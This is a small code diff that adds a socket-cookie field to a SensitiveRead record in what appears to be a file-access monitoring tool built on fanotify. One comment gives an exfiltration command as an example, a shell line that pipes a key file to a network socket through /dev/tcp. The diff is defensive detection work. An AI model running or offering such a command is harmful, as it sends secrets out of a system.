@@ -48,6 +48,9 @@ class SensitiveRead:
     path: str
     source: str
     size: Optional[int] = None  # file size in bytes where the source knows it
+    #: Cookies of sockets on the reader's fd 0/1 at the read (native: the opener
+    #: held by fanotify), e.g. ``cat key > /dev/tcp/host/port``.
+    std_socket_cookies: tuple[int, ...] = ()
 
 
 @dataclass(frozen=True)
